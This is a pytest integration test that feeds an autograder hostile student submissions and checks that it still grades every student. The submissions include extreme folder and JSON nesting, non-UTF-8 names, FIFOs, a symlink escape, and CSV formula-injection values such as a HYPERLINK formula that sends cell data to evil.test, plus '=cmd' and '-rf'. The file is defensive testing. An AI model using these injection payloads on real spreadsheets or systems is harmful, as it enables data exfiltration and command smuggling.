"""A class of 20 graded in one run through the real ``python -m autograder grade``, 5 of them built to break it.

The five breakers each once stopped a batch and lost every row, the honest
classmates' too: a folder nested 1,100 levels deep, file names that are not
UTF-8, a Comet archive with 20,000-deep JSON, a metric of 5,000 digits, and a
link the instructor's output folder holds where the grader keeps a student's
archives (the grader's own failure on that one submission). Now every student
gets a row in ``grades.csv`` and a feedback page, each of the other 15 keeps
exactly the score its files earn (13 with models of their own, one whose
files are FIFOs, one whose Comet run is full of spreadsheet formulas), the
breakers earn nothing, and the exit status says "some submissions had errors",
distinct from "the grader failed". The class has no notebook, only artifacts,
so only the models are run in sandboxes.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder.__main__ import SUBMISSION_ERRORS
from autograder.comet import upload as comet_upload
from autograder.pipeline.results import SubmissionResult
from autograder.reports import gradebook
from tests.grading_class import require_sandbox
from tests.grading_corpus import untrained
from tests.hostile_data import (
    SECRET,
    archive,
    csv_cells,
    formula_cells,
    metric,
    metric_line,
    nest,
    outside,
    parameter,
    unnest,
)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]

LAB = "lab1-mnist"
LINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
MODEL_POINTS = {"fc": 2, "cnn": 3}  # an untrained model of the right architecture: its model part, nothing else
HONEST = {f"honest-{number:02d}": ("fc", "cnn") if number <= 7 else ("fc",) if number <= 10 else ("cnn",)
          for number in range(1, 14)}
"""Thirteen students with untrained models of their own: both, or only one of the two."""
BREAKERS = ["deep-folder", "deep-json", "huge-metric", "linked-out", "odd-names"]
STUDENTS = sorted([*BREAKERS, *HONEST, "fifo", "spreadsheet"])
REFUSED = [b"caf\xe9", b"=cmd"]


def build_class(class_dir: Path) -> None:
    """One folder per student in :data:`STUDENTS`, and the refused ones; the deep folder last."""
    def lab(student: str) -> Path:
        folder = class_dir / student / LAB
        folder.mkdir(parents=True)
        return folder

    def comet(student: str, **archives: bytes) -> None:
        offline = lab(student) / "comet-offline"
        offline.mkdir()
        for name, data in archives.items():
            (offline / name).write_bytes(data)

    for student, models in HONEST.items():
        artifacts = lab(student) / "artifacts"
        artifacts.mkdir()
        untrained(artifacts, None)
        for model in {"fc", "cnn"} - set(models):
            (artifacts / f"{model}.keras").unlink()
    (class_dir / "honest-01" / LAB / "comet-offline").mkdir()
    (class_dir / "honest-01" / LAB / "comet-offline" / "0123abcd.zip").write_bytes(archive())
    comet("deep-json", **{"run.zip": archive(["[" * 20_000 + "]" * 20_000])})
    comet("huge-metric", **{"run.zip": archive([metric_line("test_accuracy", "9" * 5000)])})
    comet("spreadsheet", **{"run.zip": archive([parameter("model", "cnn"), parameter(LINK, "+cmd"),
                                                metric("test_accuracy", "@SUM(A1:A9)")],
                                               experiment=json.dumps({"offline_id": "-rf"})),
                            "=evil.zip": b"not a zip"})
    comet("linked-out", **{"0123abcd.zip": archive()})
    fifo = lab("fifo")
    os.mkfifo(fifo / f"{LAB}.ipynb")
    (fifo / "artifacts").mkdir()
    os.mkfifo(fifo / "artifacts" / "fc.keras")
    odd = lab("odd-names")
    (odd / os.fsdecode(b"caf\xe9.txt")).write_text("a name that is not UTF-8")
    (odd / os.fsdecode(b"\xff")).mkdir()
    for name in REFUSED:
        os.makedirs(os.path.join(os.fsencode(class_dir), name, LAB.encode()))
    nest(lab("deep-folder"), 1100)


@dataclass(frozen=True)
class Graded:
    ran: subprocess.CompletedProcess
    out: Path
    elsewhere: Path
    grades: dict[str, dict]


@pytest.fixture(scope="module")
def graded(tmp_path_factory, mirror_dir) -> Graded:
    require_sandbox()
    root = tmp_path_factory.mktemp("hostile-class")
    class_dir, out, elsewhere = root / "class", root / "graded", outside(root)
    kept = comet_upload.kept_folder(out, LAB, "linked-out")
    kept.parent.mkdir(parents=True)
    kept.symlink_to(elsewhere)  # left from elsewhere: grading must neither write nor delete through it
    try:
        build_class(class_dir)
        ran = subprocess.run([sys.executable, "-m", "autograder", "grade", LAB, str(class_dir), "--out", str(out),
                              "--profile", "quick", "--workers", "2"], capture_output=True, text=True, timeout=1100,
                             env={**os.environ, "LABKIT_DATA_DIR": str(mirror_dir)})
    finally:
        unnest(class_dir / "deep-folder" / LAB)  # too deep for shutil.rmtree
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        grades = {row["student_id"]: row for row in csv.DictReader(handle)}
    return Graded(ran, out, elsewhere, grades)


def page(graded: Graded, student: str) -> str:
    return (graded.out / "feedback" / student / f"{LAB}.html").read_text(encoding="utf-8")


def test_every_student_gets_a_row_and_a_page_and_the_status_says_some_had_errors(graded):
    ran = graded.ran
    assert ran.returncode == SUBMISSION_ERRORS, ran.stdout + ran.stderr[-3000:]
    assert "Traceback" not in ran.stdout + ran.stderr
    assert len(STUDENTS) == 20 and sorted(graded.grades) == STUDENTS
    for student in STUDENTS:
        assert f"{LAB}: " in page(graded, student)
    statuses = {student: row["status"] for student, row in graded.grades.items()}
    assert statuses == {**dict.fromkeys(STUDENTS, "graded"), "linked-out": "error"}, ran.stdout
    assert "1 submission(s) ended with the status error" in ran.stdout and "linked-out" in ran.stdout
    assert "2 student folder(s) refused, not graded: " in ran.stdout
    assert "'caf\\xe9': not a usable student id" in ran.stdout and "'=cmd': not a usable student id" in ran.stdout


def test_the_honest_submissions_keep_their_scores_and_the_others_earn_nothing(graded):
    scores = {student: float(row["score"]) for student, row in graded.grades.items()}
    earned = {student: float(sum(MODEL_POINTS[model] for model in models)) for student, models in HONEST.items()}
    assert scores == {**dict.fromkeys(STUDENTS, 0.0), **earned}
    assert len(earned) + 2 == 15 and len(BREAKERS) == 5  # the fifo and spreadsheet students: 0, their due


def test_what_was_left_out_is_noted_on_the_student_s_page(graded):
    assert "folders nested more than 32 levels deep" in page(graded, "deep-folder")
    odd = page(graded, "odd-names")
    assert "caf\\xe9.txt: its name is not UTF-8 text" in odd and "\\xff: its name is not UTF-8 text" in odd
    fifo = page(graded, "fifo")
    assert f"{LAB}.ipynb: not a regular file (a FIFO, socket or device)" in fifo
    assert "artifacts/fc.keras: not a regular file" in fifo


def test_the_grader_s_failure_on_one_submission_is_that_student_s_error_row_with_words_for_them(graded):
    result = SubmissionResult.from_json(json.loads(
        (graded.out / "results" / LAB / "linked-out.json").read_text()))
    assert result.status == "error" and result.score == 0
    assert "KeptFolderRefused" in result.grader_error and "is a link" in result.grader_error
    assert all(part.verdict == "error" and "could not take its copy of your submission" in part.message
               for part in result.parts)
    assert os.path.islink(comet_upload.kept_folder(graded.out, LAB, "linked-out"))
    assert sorted(os.listdir(graded.elsewhere)) == ["secret.txt"]
    assert (graded.elsewhere / "secret.txt").read_bytes() == SECRET


def test_each_broken_archive_is_a_flag_on_its_review_row(graded):
    with open(graded.out / "comet-review.csv", newline="", encoding="utf-8") as handle:
        rows = {(row["student_id"], row["archive"]): row for row in csv.DictReader(handle)}
    assert rows[("deep-json", "run.zip")]["flag"] == (
        "unreadable archive: messages.json line 1: the JSON nests deeper than 64 levels")
    assert rows[("huge-metric", "run.zip")]["flag"] == (
        "unreadable archive: messages.json line 1: a number of 5,000 characters (at most 64 are read)")
    assert rows[("honest-01", "0123abcd.zip")]["logged_test_accuracy"] == "0.95"
    kept = {(archive.student_id, archive.path.name) for archive in comet_upload.find_archives(graded.out, LAB)}
    assert kept == {("honest-01", "0123abcd.zip"), ("spreadsheet", "run.zip")}


def test_no_spreadsheet_the_grader_writes_holds_a_formula(graded):
    for name in ("grades.csv", "identical-models.csv", "comet-review.csv"):
        assert formula_cells(graded.out / name) == [], name
    review = csv_cells(graded.out / "comet-review.csv")
    assert {"'-rf", "'@SUM(A1:A9)", "'=evil.zip"} <= set(review)


def test_the_gradebook_s_export_holds_no_formula_and_takes_no_unusable_id(graded, tmp_path):
    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin

    from autograder.release import scripts_of_this_environment_on_path

    with scripts_of_this_environment_on_path():
        book = Gradebook(f"sqlite:///{graded.out / 'gradebook.db'}")
    try:
        with pytest.raises(ValueError, match="not a student id"):
            gradebook.record(book, SubmissionResult(LINK, LAB, "hash", ()))
        CsvExportPlugin(to=str(tmp_path / "export.csv")).export(book)
    finally:
        book.close()
    assert formula_cells(tmp_path / "export.csv") == []
    assert sorted(set(csv_cells(tmp_path / "export.csv")) & set(STUDENTS)) == STUDENTS
